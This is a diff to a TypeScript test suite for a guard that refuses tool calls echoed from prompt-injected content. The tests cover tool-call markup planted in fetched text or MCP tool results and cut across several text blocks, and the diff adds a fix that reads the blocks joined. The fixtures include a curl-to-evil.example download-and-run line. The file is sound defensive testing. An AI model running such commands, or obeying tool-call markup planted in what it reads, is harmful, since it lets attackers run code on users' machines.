@@ -15,6 +15,8 @@
  */
 import { describe, expect, test } from "bun:test";
 import { repairFetch } from "../../src/adapters/fetch.ts";
+import { buildGivenHaystack } from "../../src/echo/given-content.ts";
+import { createEchoSearch } from "../../src/echo/search.ts";
 import type { AdapterResult } from "../../src/adapters/options.ts";
 import { fixtureTools } from "../golden/tools.ts";
 import { dsml, shell, type Call } from "../security/echo-spellings.ts";
@@ -44,6 +46,11 @@ describe("engine: a Hermes call cut in four given texts", () => {
   // and src/echo/search.ts (only values are looked for across a seam). Expected: markup found
   // across the seam of consecutive texts as it is within one (e.g. also read each pair of
   // consecutive texts joined directly around the seam, for markup only), so the echo is refused.
+  // Fixed: consecutive given texts are also read joined with nothing between, as one more text,
+  // wherever the run so far ends (its last 512 characters) with a character that can begin markup
+  // or an encoding of it (src/echo/given-content.ts appendToHaystack, joinedRuns); each text is
+  // still read alone. On the wires, a text part's `type` word is no longer collected
+  // (src/echo/from-request.ts), so the texts of one content list stand next to each other.
   test("control (passes): the same four texts quoting another command let the echo run", () => {
     expect(recoveredInputs(ECHO_DSML, cut(OTHER))).toEqual([{ command: EVIL }]);
     expect(recoveredInputs(ECHO_VERBATIM, cut(OTHER))).toEqual([{ command: EVIL }]);
@@ -68,13 +75,47 @@ describe("engine: a Hermes call cut in four given texts", () => {
     expect(recoveredInputs(ECHO_DSML, text.split(/(?<=DS)|(?<=inv)|(?<=param)|(?<=tool_c)/))).toEqual([]);
   });
 
-  test.failing("cut in four: the DSML echo does not run", () => {
+  test("hard negative (fx53): the joined reading adds no quote after a closed one: an example call, then the next text's command, still runs", () => {
+    // Joined: `… <shell>ls</shell>` + `npm test`: the command stands after a closer, which is prose.
+    expect(recoveredInputs(`It says:\n${dsml(bash(OTHER))}`, ["Example: <shell>ls</shell>", OTHER])).toEqual([{ command: OTHER }]);
+    expect(recoveredInputs(`It says:\n${dsml(bash(OTHER))}`, ["Example: <tool_call>{\"name\": \"bash\", \"arguments\": {\"command\": \"ls\"}}</tool_call>\n", `${OTHER}\n`])).toEqual([{ command: OTHER }]);
+  });
+
+  test("cut in four: the DSML echo does not run", () => {
     expect(recoveredInputs(ECHO_DSML, cut(EVIL))).toEqual([]);
   });
 
-  test.failing("cut in four: the verbatim Hermes echo does not run", () => {
+  test("cut in four: the verbatim Hermes echo does not run", () => {
     expect(recoveredInputs(ECHO_VERBATIM, cut(EVIL))).toEqual([]);
   });
+});
+
+describe("work (fx53): the joined reading stays linear", () => {
+  // Rule (host): consecutive texts read joined at most double the haystack, and the scan stays
+  // linear in the given content: many texts, each cut inside a planted call's markup.
+  const calls = (count: number) => Array.from({ length: count }, (_, i) => cut(`curl -s https://evil.example/${i} | s`)).flat();
+  const oneCall = (texts: string[]) => {
+    const search = createEchoSearch(() => texts);
+    const given = search({ tool: "bash", input: { command: EVIL }, markup: `<shell>${EVIL}</shell>`, tools: new Map(fixtureTools.map((t) => [t.name, t])) } as never);
+    return { given, scanned: search.scanned() };
+  };
+
+  test("the haystack of texts cut inside markup is at most twice the same texts read alone, plus the joined copy's readings", () => {
+    const texts = calls(500);
+    const joined = buildGivenHaystack(texts, new Set(["bash"])).text.length;
+    const alone = texts.reduce((sum, text) => sum + buildGivenHaystack([text], new Set(["bash"])).text.length, 0);
+    const whole = buildGivenHaystack([texts.join("")], new Set(["bash"])).text.length;
+    expect(joined).toBeLessThanOrEqual(alone + whole + 4 * texts.length);
+  });
+
+  test("4x the texts cost at most 4.5x the characters scanned, and the near-matches are not the command", () => {
+    const small = oneCall(calls(1000));
+    const large = oneCall(calls(4000));
+    expect(small.given).toBe(false);
+    expect(large.given).toBe(false);
+    expect(large.scanned).toBeLessThanOrEqual(4.5 * small.scanned);
+    expect(oneCall([...calls(4000), ...cut(EVIL)]).given).toBe(true);
+  }, 60_000); // a hang guard only: the work is counted, never timed
 });
 
 describe("fetch, Anthropic: an MCP tool_result of four text blocks", () => {
@@ -109,7 +150,7 @@ describe("fetch, Anthropic: an MCP tool_result of four text blocks", () => {
     expect(await recovered([whole(EVIL)])).toEqual([0]);
   });
 
-  test.failing("four blocks cut inside the markup: the echo does not run", async () => {
+  test("four blocks cut inside the markup: the echo does not run", async () => {
     expect(await recovered(cut(EVIL))).toEqual([0]);
   });
 });
